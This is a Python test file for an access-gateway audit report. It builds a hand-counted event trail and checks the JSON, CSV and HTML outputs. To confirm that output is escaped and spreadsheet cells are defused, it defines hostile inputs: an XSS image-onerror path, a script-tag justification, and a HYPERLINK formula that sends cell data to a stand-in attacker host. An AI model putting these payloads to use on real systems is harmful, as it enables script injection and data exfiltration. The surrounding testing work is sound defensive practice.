"""``gatehouse audit report`` end to end on the local engine, over a hand-counted trail.

The dataset below is small enough to count by hand; every number asserted
here was worked out from it (the comments show the sums), not read back from
the code under test.
"""

from __future__ import annotations

import csv
import gzip
import json
import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from chalicelib.audit.emitter import serialize_event
from chalicelib.audit.gateway_events import gateway_event
from chalicelib.audit.schema import (
    DecisionRecord,
    ElevationRecord,
    RequestRecord,
    ResourceRecord,
    ResponseRecord,
    build_admin_event,
    build_event,
    build_session_event,
)
from chalicelib.audit.sections import SessionSection
from chalicelib.identity import Identity
from chalicelib.ledger.layout import with_sequence
from chalicelib.reasons import Reason
from gatehouse.query import LocalEngine
from gatehouse.query.dataset import Dataset, Partition, raw_name, write_records
from gatehouse.query.schema import AUDIT_EVENTS
from gatehouse.report import collect_report, write_report
from gatehouse.report.model import Window

ISSUER = "https://idp.test.example"
START = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
END = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
GENERATED = datetime(2026, 3, 2, 12, 30, tzinfo=UTC)

HOSTILE_PATH = '/docs/"><img src=x onerror=alert(1)>'
HOSTILE_AGENT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_JUSTIFICATION = "<script>alert(1)</script> outage"
MOZILLA = "Mozilla/5.0"
CURL = "curl/8.5"


def at(hour: int, minute: int = 0, second: int = 0, millis: int = 0, day: int = 2) -> datetime:
    return datetime(2026, 3, day, hour, minute, second, millis * 1000, tzinfo=UTC)


def person(name: str, domain: str = "example.com") -> Identity:
    return Identity(
        issuer=ISSUER,
        subject=name,
        audience="gatehouse",
        expires_at=1_900_000_000,
        email=f"{name}@{domain}",
        groups=frozenset({"staff"}),
    )


ALICE, BOB, CAROL, EVE = (
    person("alice"),
    person("bob"),
    person("carol"),
    person("eve", "evil.example"),
)
ROUTES = {"docs": False, "admin": True, "api": False}  # route id -> sensitive


def _request(method: str, path: str, ip: str, agent: str | None, number: int) -> RequestRecord:
    return RequestRecord(
        request_id=f"req-{number}",
        extended_request_id=None,
        trace_id=None,
        lambda_request_id=None,
        stage="test",
        source_ip=ip,
        user_agent=agent,
        host="gw.test.example",
        method=method,
        path=path,
        query=None,
    )


class Trail:
    """Audit events as stored: full shape, event_time set, ledger sequence in time order."""

    def __init__(self) -> None:
        self.events: list[dict[str, Any]] = []

    def decision(
        self,
        when: datetime,
        who: Identity | None,
        method: str,
        path: str,
        outcome: str,
        reason: Reason,
        *,
        route: str | None,
        ip: str = "198.51.100.10",
        agent: str | None = MOZILLA,
        version: int | None = None,
        elevation: ElevationRecord | None = None,
        response: ResponseRecord | None = None,
        anomalies: tuple[str, ...] = (),
    ) -> None:
        number = len(self.events)
        request = _request(method, path, ip, agent, number)
        resource = (
            ResourceRecord(route, "http://backend", ROUTES[route]) if route else ResourceRecord()
        )
        checksum = None if version is None else f"sha256:v{version}"
        decision = DecisionRecord(
            outcome,  # type: ignore[arg-type]
            (reason,),
            policy_version=version,
            policy_checksum=checksum,
            elevation=elevation,
        )
        event = build_event("decision", request, identity=who, decision=decision, resource=resource)
        self._add(event, when)
        if response is not None:
            served = DecisionRecord(
                "allow", (), policy_version=version, decided_by="proxy", elevation=elevation
            )
            answer = build_event(
                "response",
                request,
                identity=who,
                decision=served,
                resource=resource,
                decision_id=event["event_id"],
                response=response,
                anomalies=anomalies,
            )
            self._add(answer, when + timedelta(milliseconds=1))

    def admin(
        self,
        when: datetime,
        kind: str,
        details: dict[str, Any],
        who: Identity | None,
        operator: str | None,
    ) -> None:
        event = build_admin_event(
            kind, stage="test", details=details, operator=operator, identity=who
        )  # type: ignore[arg-type]
        self._add(event, when)

    def session(self, when: datetime, section: SessionSection, operator: str | None = None) -> None:
        self._add(build_session_event(section, stage="test", operator=operator), when)

    def gateway(self, when: datetime) -> None:
        record = {
            "requestId": "gw-1",
            "httpMethod": "GET",
            "path": "/docs/a",
            "status": "429",
            "errorResponseType": "THROTTLED",
            "sourceIp": "203.0.113.5",
        }
        self._add(gateway_event(record, stage="test"), when)

    def _add(self, event: dict[str, Any], when: datetime) -> None:
        event["event_time"] = (
            when.strftime("%Y-%m-%dT%H:%M:%S.") + f"{when.microsecond // 1000:03d}Z"
        )
        self.events.append(event)

    def stored(self) -> list[dict[str, Any]]:
        ordered = sorted(self.events, key=lambda e: e["event_time"])
        return [{**event, "ledger": {"sequence": n}} for n, event in enumerate(ordered)]


def ok(latency: float, bytes_out: int, bytes_in: int = 0, status: int = 200) -> ResponseRecord:
    return ResponseRecord(status, bytes_in, bytes_out, latency, latency - 1)


def grant_details(action: str, **extra: Any) -> dict[str, Any]:
    return {
        "action": action,
        "grant_id": "g-1",
        "requester": {"issuer": ISSUER, "subject": "alice", "email": "alice@example.com"},
        "routes": ["admin"],
        "actions": ["read"],
        "paths": ["/admin/**"],
        "duration_seconds": 3600,
        "justification": "ticket 7",
        "approver": "carol@example.com" if action != "requested" else None,
        "expires_at": "2026-03-02T09:50:00.000Z" if action != "requested" else None,
        **extra,
    }


def dataset() -> list[dict[str, Any]]:
    trail = Trail()
    allow, deny, error = "allow", "deny", "error"
    # Baseline (before the window): where alice and bob usually come from.
    trail.decision(
        datetime(2026, 2, 28, 9, tzinfo=UTC),
        ALICE,
        "GET",
        "/docs/a",
        allow,
        Reason.ALLOW_RULE_MATCHED,
        route="docs",
        version=2,
    )
    trail.decision(
        datetime(2026, 2, 27, 9, tzinfo=UTC),
        BOB,
        "GET",
        "/docs/b",
        allow,
        Reason.ALLOW_RULE_MATCHED,
        route="docs",
        ip="198.51.100.20",
        agent=CURL,
        version=2,
    )
    # Just outside the window, both ends.
    trail.decision(
        at(7, 59, 59, 999),
        ALICE,
        "GET",
        "/docs/a",
        allow,
        Reason.ALLOW_RULE_MATCHED,
        route="docs",
        version=2,
    )
    trail.decision(
        at(12),
        ALICE,
        "GET",
        "/docs/a",
        allow,
        Reason.ALLOW_RULE_MATCHED,
        route="docs",
        version=3,
        response=ok(99, 999),
    )
    # 08:00-09:00
    for minute, latency in ((5, 10), (10, 20), (15, 20)):
        trail.decision(
            at(8, minute),
            ALICE,
            "GET",
            "/docs/a",
            allow,
            Reason.ALLOW_RULE_MATCHED,
            route="docs",
            version=2,
            response=ok(latency, 100),
        )
    trail.decision(
        at(8, 20),
        BOB,
        "GET",
        "/docs/b",
        allow,
        Reason.ALLOW_RULE_MATCHED,
        route="docs",
        ip="198.51.100.20",
        agent=CURL,
        version=2,
        response=ok(20, 500),
    )
    trail.decision(
        at(8, 30),
        None,
        "GET",
        "/docs/a",
        deny,
        Reason.MISSING_CREDENTIALS,
        route=None,
        ip="203.0.113.66",
        agent="scanner",
    )
    trail.admin(at(8, 40), "grant", grant_details("requested"), ALICE, None)
    trail.admin(at(8, 50), "grant", grant_details("approved"), CAROL, None)
    trail.gateway(at(8, 55))
    # 09:00-10:00
    for minute in (0, 10):
        trail.decision(
            at(9, minute),
            BOB,
            "POST",
            "/admin/users",
            deny,
            Reason.NO_MATCHING_RULE,
            route="admin",
            ip="198.51.100.20",
            agent=CURL,
            version=2,
        )
    grant = ElevationRecord(grant_id="g-1", approver="carol@example.com", justification="ticket 7")
    trail.decision(
        at(9, 30),
        ALICE,
        "GET",
        "/admin/users",
        allow,
        Reason.GRANT_MATCHED,
        route="admin",
        version=2,
        elevation=grant,
        response=ok(50, 70, bytes_in=10),
    )
    trail.admin(at(9, 30, 0, 5), "grant", grant_details("used", decision_id="d"), ALICE, None)
    trail.decision(
        at(9, 45),
        EVE,
        "GET",
        HOSTILE_PATH,
        deny,
        Reason.DENY_RULE_MATCHED,
        route="docs",
        ip="203.0.113.13",
        agent=HOSTILE_AGENT,
        version=2,
    )
    # 10:00-11:00: the policy changes, nothing else.
    trail.admin(
        at(10, 30),
        "policy_change",
        {
            "action": "apply",
            "activation": 3,
            "from_version": 2,
            "from_checksum": "sha256:v2",
            "to_version": 3,
            "to_checksum": "sha256:v3",
            "summary": "+1 rule",
            "archive": {"version": "v3", "activation": "a3"},
        },
        None,
        "arn:aws:iam::123456789012:user/ops",
    )
    # 11:00-12:00
    glass = ElevationRecord(justification=HOSTILE_JUSTIFICATION, break_glass=True)
    trail.decision(
        at(11),
        BOB,
        "POST",
        "/admin/reset",
        allow,
        Reason.BREAK_GLASS,
        route="admin",
        ip="192.0.2.99",
        agent=CURL,
        version=3,
        elevation=glass,
        response=ok(50, 30, bytes_in=20, status=502),
        anomalies=("client_sent_gatehouse_header",),
    )
    trail.decision(
        at(11, 30), ALICE, "GET", "/docs/a", deny, Reason.MFA_REQUIRED, route="docs", version=3
    )
    trail.decision(
        at(11, 59, 59, 999),
        CAROL,
        "GET",
        "/api/x",
        error,
        Reason.POLICY_UNAVAILABLE,
        route=None,
        ip="198.51.100.30",
    )
    # Browser sessions (their events in time; the requests above came with bearer tokens).
    failed = "sign_in_failed"
    trail.session(at(7, 59), SessionSection(failed, idp="okta", reason=Reason.LOGIN_EXPIRED))
    trail.session(at(8, 1), SessionSection("signed_in", "bs-1", "okta"))
    trail.session(at(8, 2), SessionSection(failed, idp="okta", reason=Reason.LOGIN_STATE_MISMATCH))
    trail.session(at(8, 3), SessionSection(failed, idp="okta", reason=Reason.LOGIN_STATE_MISMATCH))
    trail.session(at(8, 4), SessionSection(failed, idp="okta", reason=Reason.LOGIN_IDP_ERROR))
    trail.session(at(9, 1), SessionSection("refreshed", "bs-1", "okta"))
    trail.session(at(10, 1), SessionSection("signed_out", "bs-1", "okta", revoked_by="user"))
    trail.session(
        at(10, 5),
        SessionSection("revoked", "bs-2", "okta", revoked_by="operator"),
        operator="arn:aws:iam::123456789012:user/ops",
    )
    trail.session(at(10, 6), SessionSection("idp_logged_out", "bs-3", "okta", revoked_by="idp"))
    trail.session(at(10, 6, 0, 1), SessionSection("revoked", "bs-3", "okta", revoked_by="idp"))
    trail.session(at(12), SessionSection("signed_in", "bs-4", "okta"))
    return trail.stored()


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    engine = LocalEngine.from_records(dataset())
    report = collect_report(engine, Window(START, END), stage="test", now=lambda: GENERATED)
    out = tmp_path_factory.mktemp("report")
    write_report(report, out)
    return out


@pytest.fixture(scope="module")
def document(written: Path) -> dict[str, Any]:
    return json.loads((written / "report.json").read_text())


def rows(written: Path, name: str) -> list[list[str]]:
    with (written / name).open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def test_window_and_totals(document: dict[str, Any]) -> None:
    assert document["window"] == {
        "from": "2026-03-02T08:00:00.000Z",
        "to": "2026-03-02T12:00:00.000Z",
        "bucket": "hour",
    }
    assert document["generated_at"] == "2026-03-02T12:30:00.000Z"
    assert document["stage"] == "test"
    assert document["empty"] is False
    assert document["query_cost"]["engine"] == "local"
    assert document["query_cost"]["queries"] == 15
    # allow: alice 3 + bob 1 (08h), alice's grant (09h), bob's break-glass (11h) = 6
    # deny: anonymous (08h), bob 2 + eve (09h), alice's mfa (11h) = 5; error: carol = 1
    # gateway only: the throttled request API Gateway answered alone (08h) = 1
    assert document["summary"] == {
        "requests": {"allow": 6, "deny": 5, "error": 1, "gateway_only": 1, "total": 13},
        "principals": 5,  # alice, bob, eve, carol, (anonymous)
        "routes": 3,  # docs, admin, (no route)
        "alerts": 6,
        "break_glass_uses": 1,
    }


def test_requests_over_time(written: Path, document: dict[str, Any]) -> None:
    assert rows(written, "requests_over_time.csv") == [
        ["bucket_start", "allow", "deny", "error", "gateway_only", "total"],
        ["2026-03-02T08:00:00.000Z", "4", "1", "0", "1", "6"],
        ["2026-03-02T09:00:00.000Z", "1", "3", "0", "0", "4"],
        ["2026-03-02T10:00:00.000Z", "0", "0", "0", "0", "0"],
        ["2026-03-02T11:00:00.000Z", "1", "1", "1", "0", "3"],
    ]
    assert len(document["requests_over_time"]) == 4


def test_access_matrix(written: Path) -> None:
    assert sorted(rows(written, "access_matrix.csv")[1:]) == [
        ["(anonymous)", "(no route)", "0", "1", "0", "1"],
        ["alice@example.com", "admin", "1", "0", "0", "0"],
        ["alice@example.com", "docs", "3", "1", "0", "0"],
        ["bob@example.com", "admin", "1", "2", "0", "0"],
        ["bob@example.com", "docs", "1", "0", "0", "0"],
        ["carol@example.com", "(no route)", "0", "0", "1", "0"],
        ["eve@evil.example", "docs", "0", "1", "0", "0"],
    ]


def test_top_and_recent_denies(written: Path, document: dict[str, Any]) -> None:
    # denies_with_reasons: most requests first, then by reason.
    assert rows(written, "top_denies.csv") == [
        ["reason", "principal", "route", "requests", "first_seen", "last_seen"],
        [
            "no_matching_rule",
            "bob@example.com",
            "admin",
            "2",
            "2026-03-02T09:00:00.000Z",
            "2026-03-02T09:10:00.000Z",
        ],
        ["deny_rule_matched", "eve@evil.example", "docs", "1", *["2026-03-02T09:45:00.000Z"] * 2],
        ["gateway:THROTTLED", "(anonymous)", "(no route)", "1", *["2026-03-02T08:55:00.000Z"] * 2],
        ["mfa_required", "alice@example.com", "docs", "1", *["2026-03-02T11:30:00.000Z"] * 2],
        [
            "missing_credentials",
            "(anonymous)",
            "(no route)",
            "1",
            *["2026-03-02T08:30:00.000Z"] * 2,
        ],
    ]
    recent = document["security"]["recent_denies"]
    assert [(d["time"][11:19], d["principal"], d["source_ip"], d["path"]) for d in recent] == [
        ("11:30:00", "alice@example.com", "198.51.100.10", "/docs/a"),
        ("09:45:00", "eve@evil.example", "203.0.113.13", HOSTILE_PATH),
        ("09:10:00", "bob@example.com", "198.51.100.20", "/admin/users"),
        ("09:00:00", "bob@example.com", "198.51.100.20", "/admin/users"),
        ("08:30:00", "(anonymous)", "203.0.113.66", "/docs/a"),
    ]
    assert recent[1]["user_agent"] == HOSTILE_AGENT


def test_reasons(document: dict[str, Any]) -> None:
    reasons = document["decision_reasons"]
    assert sorted((r["outcome"], r["reasons"], r["count"]) for r in reasons) == [
        ("allow", "allow_rule_matched", 4),
        ("allow", "break_glass", 1),
        ("allow", "grant_matched", 1),
        ("deny", "deny_rule_matched", 1),
        ("deny", "mfa_required", 1),
        ("deny", "missing_credentials", 1),
        ("deny", "no_matching_rule", 2),
        ("error", "policy_unavailable", 1),
    ]


def test_policy_versions_and_changes(written: Path) -> None:
    # v2: alice 3 + bob 1 (08h), bob 2 + alice's grant + eve (09h) = 8; v3: bob, alice (11h) = 2
    assert rows(written, "policy_versions.csv") == [
        ["version", "checksum", "decisions", "first_seen", "last_seen"],
        ["2", "sha256:v2", "8", "2026-03-02T08:05:00.000Z", "2026-03-02T09:45:00.000Z"],
        ["3", "sha256:v3", "2", "2026-03-02T11:00:00.000Z", "2026-03-02T11:30:00.000Z"],
    ]
    assert rows(written, "policy_changes.csv") == [
        [
            "time",
            "action",
            "activation",
            "from_version",
            "to_version",
            "from_checksum",
            "to_checksum",
            "summary",
            "operator",
        ],
        [
            "2026-03-02T10:30:00.000Z",
            "apply",
            "3",
            "2",
            "3",
            "sha256:v2",
            "sha256:v3",
            "'+1 rule",  # defused: a spreadsheet would read "+1 rule" as a formula
            "arn:aws:iam::123456789012:user/ops",
        ],
    ]


def test_grants_and_break_glass(written: Path, document: dict[str, Any]) -> None:
    assert [r[:7] for r in rows(written, "grant_events.csv")] == [
        ["time", "action", "grant_id", "requester", "actor", "approver", "justification"],
        [
            "2026-03-02T08:40:00.000Z",
            "requested",
            "g-1",
            "alice@example.com",
            "alice@example.com",
            "",
            "ticket 7",
        ],
        [
            "2026-03-02T08:50:00.000Z",
            "approved",
            "g-1",
            "alice@example.com",
            "carol@example.com",
            "carol@example.com",
            "ticket 7",
        ],
        [
            "2026-03-02T09:30:00.005Z",
            "used",
            "g-1",
            "alice@example.com",
            "alice@example.com",
            "carol@example.com",
            "ticket 7",
        ],
    ]
    elevated = rows(written, "grants_and_break_glass.csv")
    assert elevated[0] == [
        "time",
        "request_id",
        "principal",
        "method",
        "path",
        "route",
        "decision",
        "status",
        "break_glass",
        "grant_id",
        "justification",
        "requested_by",
        "requested_at",
        "approved_by",
        "approved_at",
        "expires_at",
        "first_used_at",
        "ended_at",
    ]
    assert elevated[1:] == [
        [
            "2026-03-02T09:30:00.000Z",
            "req-19",
            "alice@example.com",
            "GET",
            "/admin/users",
            "admin",
            "allow",
            "200",
            "false",
            "g-1",
            "ticket 7",
            "alice@example.com",
            "2026-03-02T08:40:00.000Z",
            "carol@example.com",
            "2026-03-02T08:50:00.000Z",
            "2026-03-02T09:50:00.000Z",
            "2026-03-02T09:30:00.005Z",
            "",
        ],
        [
            "2026-03-02T11:00:00.000Z",
            "req-24",
            "bob@example.com",
            "POST",
            "/admin/reset",
            "admin",
            "allow",
            "502",
            "true",
            "",
            HOSTILE_JUSTIFICATION,
            *[""] * 7,
        ],
    ]
    assert [b["principal"] for b in document["security"]["break_glass"]] == ["bob@example.com"]


def test_security_findings(document: dict[str, Any]) -> None:
    security = document["security"]
    assert [(s["principal"], s["route"], s["count"]) for s in security["sensitive_access"]] == [
        ("alice@example.com", "admin", 1),
        ("bob@example.com", "admin", 1),
    ]
    # alice and bob came from their sources of the week before, except bob's break-glass
    # address; carol and eve have no history at all (ordered by subject, kind, time).
    news = [
        (n["principal"], n["kind"], n["value"], n["requests"], n["principal_is_new"])
        for n in security["new_sources"]
    ]
    assert news == [
        ("bob@example.com", "source_ip", "192.0.2.99", 1, False),
        ("carol@example.com", "source_ip", "198.51.100.30", 1, True),
        ("carol@example.com", "user_agent", MOZILLA, 1, True),
        ("eve@evil.example", "source_ip", "203.0.113.13", 1, True),
        ("eve@evil.example", "user_agent", HOSTILE_AGENT, 1, True),
    ]
    assert [(a["principal"], a["path"], a["anomalies"]) for a in security["anomalies"]] == [
        ("bob@example.com", "/admin/reset", "client_sent_gatehouse_header")
    ]
    assert [(a["kind"], a["severity"]) for a in security["alerts"]] == [
        ("fail_closed", "high"),
        ("anomaly", "high"),
        ("break_glass", "high"),
        ("sensitive_route", "low"),
        ("sensitive_route", "low"),
        ("new_sources", "low"),
    ]


def test_route_usage(written: Path) -> None:
    # docs: alice 3 + bob allowed (200), alice's mfa and eve denied (no response):
    #       latencies 10, 20, 20, 20 -> p50 = p95 = 20 (exact for any percentile method);
    #       bytes out 3 x 100 + 500.
    # admin: alice's grant (200) and bob's break-glass (502) allowed, bob denied twice:
    #        latencies 50, 50; bytes in 10 + 20, out 70 + 30.
    # Then requests without a route: anonymous and carol (their host), and the throttled
    # request API Gateway answered alone (no host in its log line).
    assert rows(written, "route_usage.csv") == [
        [
            "host",
            "route",
            "requests",
            "allowed",
            "denied",
            "errors",
            "gateway_only",
            "status_2xx",
            "status_3xx",
            "status_4xx",
            "status_5xx",
            "latency_p50_ms",
            "latency_p95_ms",
            "bytes_in",
            "bytes_out",
        ],
        [
            "gw.test.example",
            "docs",
            "6",
            "4",
            "2",
            "0",
            "0",
            "4",
            "0",
            "0",
            "0",
            "20.0",
            "20.0",
            "0",
            "800",
        ],
        [
            "gw.test.example",
            "admin",
            "4",
            "2",
            "2",
            "0",
            "0",
            "1",
            "0",
            "0",
            "1",
            "50.0",
            "50.0",
            "30",
            "100",
        ],
        [
            "gw.test.example",
            "(no route)",
            "2",
            "0",
            "1",
            "1",
            "0",
            "0",
            "0",
            "0",
            "0",
            "",
            "",
            "0",
            "0",
        ],
        ["", "(no route)", "1", "0", "0", "0", "1", "0", "0", "1", "0", "", "", "0", "0"],
    ]


def test_compliance(document: dict[str, Any]) -> None:
    compliance = document["compliance"]
    # In the window: 12 decisions, 6 responses, 3 grant events, 1 policy change, 1 gateway
    # line, 9 session events. Sequences (time order): bob 02-27 = 0, alice 02-28 = 1, the
    # failed sign-in at 07:59 = 2, 07:59:59.999 = 3, then the window's 32 events = 4..35,
    # then 12:00's decision, response and sign-in.
    assert compliance["ledger"] == {
        "events": 32,
        "first_sequence": 4,
        "last_sequence": 35,
        "by_type": {
            "decision": 12,
            "gateway": 1,
            "grant": 3,
            "policy_change": 1,
            "response": 6,
            "session": 9,
        },
    }
    assert compliance["verify_with"] == "gatehouse audit verify"
    controls = {c["name"]: c for c in compliance["controls"]}
    assert controls["Default deny"]["evidence"].startswith("2 requests matched no rule or route")
    assert controls["Condition: MFA required"]["status"] == "enforced"
    assert controls["Just-in-time grants"]["evidence"] == (
        "grant events: approved 1, requested 1, used 1; 1 of 1 approvals name their approver; "
        "1 requests made under a grant"
    )
    assert controls["Break-glass"]["evidence"] == "1 uses, 1 with a justification"


def test_browser_sessions(written: Path, document: dict[str, Any]) -> None:
    sessions = document["browser_sessions"]
    # In [08:00, 12:00): bs-1 signed in (08:01; bs-4's at 12:00 is out), three sign-ins
    # failed (08:02-08:04; the one at 07:59 is out), bs-1 refreshed then signed out, an
    # operator revoked bs-2, the IdP logged bs-3 out and Gatehouse revoked it.
    assert sessions["sign_ins"] == 1
    assert sessions["failed_sign_ins"] == {"login_state_mismatch": 2, "login_idp_error": 1}
    assert sessions["refreshes"] == 1
    assert sessions["failed_refreshes"] == {}
    assert sessions["sign_outs"] == 1
    assert sessions["revocations"] == {"idp": 1, "operator": 1}
    assert sessions["idp_logouts"] == 1
    assert rows(written, "browser_sessions.csv") == [
        ["action", "reason", "revoked_by", "count"],
        ["sign_in_failed", "login_state_mismatch", "", "2"],
        ["idp_logged_out", "", "idp", "1"],
        ["refreshed", "", "", "1"],
        ["revoked", "", "idp", "1"],
        ["revoked", "", "operator", "1"],
        ["sign_in_failed", "login_idp_error", "", "1"],
        ["signed_in", "", "", "1"],
        ["signed_out", "", "user", "1"],
    ]
    page = (written / "report.html").read_text()
    part = page[page.index('<section id="sessions">') : page.index('<section id="compliance">')]
    assert '<div class="card">failed sign-ins<b>3</b></div>' in part
    assert '<div class="card">revocations<b>2</b></div>' in part


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_html_page(written: Path) -> None:
    page = (written / "report.html").read_text()
    parser = _Tags()
    parser.feed(page)
    tags = parser.tags
    assert [a.get("id") for t, a in tags if t == "section"] == [
        "overview",
        "security",
        "sessions",
        "compliance",
        "engineering",
    ]
    assert len([t for t, _ in tags if t == "svg"]) == 4
    assert not {"script", "img", "iframe", "object", "embed", "link"} & {t for t, _ in tags}
    assert not [a for _, a in tags if "src" in a or "onerror" in a]
    assert [a["href"] for _, a in tags if "href" in a] == [
        "#overview",
        "#security",
        "#sessions",
        "#compliance",
        "#engineering",
    ]
    assert not re.search(r"(?:src|href)\s*=\s*[\"']?\s*(?:https?:)?//", page, re.IGNORECASE)
    assert HOSTILE_PATH not in page
    assert "/docs/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; outage" in page
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in page
    # Built without the ledger check: the integrity section says so and how to run it.
    assert "<p>Not verified with this report.</p>" in page
    assert (
        "<code>gatehouse audit verify --since 2026-03-02T08:00:00.000Z "
        "--until 2026-03-02T12:00:00.000Z</code>"
    ) in page


def test_csv_defuses_the_hostile_user_agent(written: Path) -> None:
    new_sources = rows(written, "new_sources.csv")
    assert new_sources[5][:3] == ["eve@evil.example", "user_agent", "'" + HOSTILE_AGENT]
    recent = rows(written, "recent_denies.csv")
    assert [r[3] for r in recent[1:] if "HYPERLINK" in r[3]] == ["'" + HOSTILE_AGENT]


def test_empty_window_is_a_valid_report(tmp_path: Path) -> None:
    engine = LocalEngine.from_records(dataset())
    quiet = Window(datetime(2026, 3, 5, tzinfo=UTC), datetime(2026, 3, 8, tzinfo=UTC))
    report = collect_report(engine, quiet, stage="test", now=lambda: GENERATED)
    write_report(report, tmp_path)
    document = json.loads((tmp_path / "report.json").read_text())
    assert document["empty"] is True
    assert document["window"]["bucket"] == "day"
    assert document["summary"]["requests"]["total"] == 0
    assert len(document["requests_over_time"]) == 3
    assert document["compliance"]["ledger"] == {
        "events": 0,
        "first_sequence": None,
        "last_sequence": None,
        "by_type": {},
    }
    assert "There was no traffic in this window" in (tmp_path / "report.html").read_text()
    assert rows(tmp_path, "top_denies.csv") == [
        ["reason", "principal", "route", "requests", "first_seen", "last_seen"]
    ]


def test_a_report_over_unreadable_objects_is_produced_with_an_alert(tmp_path: Path) -> None:
    events = dataset()
    cache = tmp_path / "cache"
    write_records(Dataset(cache), events, [])
    in_window = Partition((("dt", "2026-03-02"), ("hour", 9)))
    # A real writer line whose User-Agent the emitter had to escape as \udc80.
    event = build_event(
        "decision",
        _request("GET", "/", "203.0.113.9", "curl/\udc80", 999),
        identity=None,
        decision=DecisionRecord("deny", (Reason.MISSING_CREDENTIALS,)),
        resource=ResourceRecord(),
    )
    event["event_time"] = "2026-03-02T09:07:00.000Z"
    line = with_sequence(serialize_event(event), 12345)
    bad = {
        "writer": gzip.compress(line + b"\n", mtime=0),
        "not-json": gzip.compress(b"{not json\n"),
        "principal-string": gzip.compress(
            b'{"event_time":"2026-03-02T09:01:00Z","principal":"alice"}\n'
        ),
        "not-gzip": b"plain",
    }
    for name, data in bad.items():
        Dataset(cache).add_raw(AUDIT_EVENTS, in_window, raw_name(name, "v1"), data, key=name)
    engine = LocalEngine(cache)
    report = collect_report(engine, Window(START, END), stage="test", now=lambda: GENERATED)
    out = tmp_path / "report"
    write_report(report, out)
    document = json.loads((out / "report.json").read_text(encoding="utf-8"))
    good = LocalEngine.from_records(events)
    expected = collect_report(good, Window(START, END), stage="test", now=lambda: GENERATED)
    # The writer's event (a deny) and the repaired line count; nothing good is lost.
    assert document["summary"]["requests"]["total"] == expected_total(expected) + 1
    alerts = [a for a in document["security"]["alerts"] if a["kind"] == "unreadable_trail"]
    assert [a["severity"] for a in alerts] == ["high", "high"]
    assert alerts[0]["summary"].startswith("1 lines in 2 objects could not be read: ")
    assert "not-gzip (unreadable)" in alerts[0]["summary"]
    assert alerts[1]["summary"].startswith("2 lines in 2 objects were read with repairs")
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "could not be read" in page
    assert "curl/\ufffd" in (out / "recent_denies.csv").read_text(encoding="utf-8")


def expected_total(report: Any) -> int:
    return sum(bucket.total for bucket in report.requests_over_time)
